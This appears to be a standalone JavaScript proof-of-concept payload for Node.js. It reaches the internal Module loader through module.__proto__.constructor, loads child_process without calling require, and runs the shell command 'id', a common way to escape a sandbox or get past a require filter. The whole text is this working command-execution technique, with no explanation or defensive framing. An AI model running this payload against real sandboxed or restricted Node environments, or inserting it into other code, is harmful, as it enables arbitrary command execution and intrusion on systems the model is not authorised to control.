const M = module.__proto__.constructor;
M._load("child_process").execSync("id", {stdio: "inherit"});
